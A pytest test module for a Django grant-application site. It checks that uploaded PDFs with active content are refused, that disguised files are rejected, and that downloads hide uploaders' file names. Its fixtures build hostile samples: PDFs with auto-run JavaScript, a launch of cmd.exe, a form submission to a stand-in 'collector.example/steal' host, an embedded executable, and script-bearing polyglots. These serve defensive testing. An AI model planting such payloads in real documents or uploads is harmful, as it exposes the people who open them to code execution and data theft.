"""Uploaded PDFs are parsed (pypdf), active content is refused with the reason, and downloads are
named by the application's reference and the attachment's number, never by the uploader's file name.

Alice (Aurora's founder) uploads; Stella (staff) and the experts of a blind review download."""

from __future__ import annotations

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from lodestar.applications import actions
from lodestar.applications.models import Attachment
from lodestar.grants import actions as grant_actions
from lodestar.reviews.models import Assignment
from tests.pdfs import MINIMAL_PDF, text_pdf

pytest_plugins = ["tests.reviews_assignment_fixtures", "tests.grants_fixtures"]


def upload(content: bytes, name: str = "pitch.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def written(change=None) -> bytes:
    """A real one-page PDF written by pypdf, after `change(writer)`."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(writer, kind, **fields):
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{k}"): TextStringObject(v) for k, v in fields.items()})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def with_javascript(writer):
    _open_action(writer, "/JavaScript", JS="app.alert('hello');")


def with_document_javascript(writer):
    # Document-level scripts live in the catalogue's name tree, run when the file opens.
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("this.print();")}
    )
    names = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(script)])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})


def with_launch(writer):
    _open_action(writer, "/Launch", F="cmd.exe")


def with_form_submission(writer):
    _open_action(writer, "/SubmitForm", F="https://collector.example/steal")


def with_embedded_file(writer):
    writer.add_attachment("payload.exe", b"MZ\x90\x00")


def with_fit_on_open(writer):
    # What LaTeX (hyperref) and office suites write: open on page 1, fitted. Harmless.
    page = writer.pages[0].indirect_reference
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])


# Files that start with %PDF- and end with %%EOF, which the old check accepted.
DISGUISED = {
    "html": b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n",
    "exe": b"%PDF-1.7\nMZ\x90\x00\x03" + b"\x00" * 300 + b"\n%%EOF\n",
    "zip": b"%PDF-1.5\nPK\x03\x04" + b"\x00" * 300 + b"\n%%EOF\n",
    "svg": b'%PDF-1.4\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n%%EOF\n',
}


@pytest.mark.parametrize("kind", sorted(DISGUISED))
def test_a_file_dressed_as_a_pdf_is_refused_because_it_does_not_parse(aurora_draft, alice, kind):
    with pytest.raises(ValidationError, match="could not be read as a PDF"):
        actions.check_add_attachment(aurora_draft, alice, upload(DISGUISED[kind]))
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (with_javascript, "JavaScript"),
        (with_document_javascript, "JavaScript"),
        (with_form_submission, "sends or loads data"),
        (with_launch, "launches a program"),
        (with_embedded_file, "embedded files"),
    ],
)
def test_a_pdf_with_active_content_is_refused_and_says_why(aurora_draft, alice, change, reason):
    with pytest.raises(ValidationError, match=reason):
        actions.check_add_attachment(aurora_draft, alice, upload(written(change)))
    assert not Attachment.objects.exists()


@pytest.mark.parametrize("content", [MINIMAL_PDF, text_pdf(["Business plan", "2026"]), written()])
def test_plain_pdfs_are_accepted(aurora_draft, alice, content):
    assert actions.check_add_attachment(aurora_draft, alice, upload(content)).size == len(content)


def test_a_pdf_that_opens_fitted_to_the_page_is_accepted(aurora_draft, alice):
    assert actions.check_add_attachment(aurora_draft, alice, upload(written(with_fit_on_open)))


def test_the_refusal_reads_in_french_on_the_french_page(client, aurora_draft, alice):
    client.force_login(alice)
    url = f"/fr/applications/{aurora_draft.pk}/attachments/"
    response = client.post(url, {"file": upload(written(with_javascript), "plan.pdf")}, follow=True)
    page = response.content.decode()
    assert "est refusé" in page and "JavaScript" in page
    assert aurora_draft.attachments.count() == 0


def test_milestone_evidence_goes_through_the_same_check(award, alice):
    milestone = award.milestones.first()
    with pytest.raises(ValidationError, match="JavaScript"):
        grant_actions.check_add_evidence(milestone, alice, upload(written(with_javascript)))
    with pytest.raises(ValidationError, match="could not be read"):
        grant_actions.check_add_evidence(milestone, alice, upload(DISGUISED["html"]))
    assert not milestone.evidence.exists()


def test_downloads_are_named_by_reference_and_number(client, aurora_draft, alice, stella):
    actions.check_add_attachment(aurora_draft, alice, upload(MINIMAL_PDF, "Aurora secret plan.pdf"))
    second = actions.check_add_attachment(aurora_draft, alice, upload(MINIMAL_PDF, "Alice CV.pdf"))
    client.force_login(stella)
    response = client.get(reverse("applications:download", args=[aurora_draft.pk, second.pk]))
    disposition = response["Content-Disposition"]
    assert disposition == f'attachment; filename="{aurora_draft.reference}-attachment-2.pdf"'
    assert "Alice" not in disposition and "secret" not in disposition


def test_blind_review_hides_the_file_name_in_the_download_header(client, published_field):
    published_field.review_rules.blind = True
    published_field.review_rules.save()
    application = published_field.energy[0]
    attachment = application.attachments.get()
    assert "Company 0 SA" in attachment.original_name  # what the uploader called it
    expert = Assignment.objects.filter(application=application).first().expert.user
    client.force_login(expert)
    page = client.get(
        reverse(
            "reviews:review",
            args=[Assignment.objects.filter(application=application, expert__user=expert).get().pk],
        )
    ).content.decode()
    assert "Company 0 SA" not in page
    response = client.get(reverse("applications:download", args=[application.pk, attachment.pk]))
    assert response.status_code == 200
    assert "Company 0" not in response["Content-Disposition"]
    assert f"{application.reference}-attachment-1.pdf" in response["Content-Disposition"]


def test_evidence_downloads_are_named_by_milestone_and_number(client, signed_award, alice):
    milestone = signed_award.milestones.first()
    item = grant_actions.check_add_evidence(milestone, alice, upload(MINIMAL_PDF, "Alice bank.pdf"))
    client.force_login(alice)
    url = reverse("grants:evidence", args=[signed_award.pk, milestone.number, item.pk])
    disposition = client.get(url)["Content-Disposition"]
    reference = signed_award.application.reference
    assert disposition == f'attachment; filename="{reference}-milestone-{milestone.number}-evidence-1.pdf"'
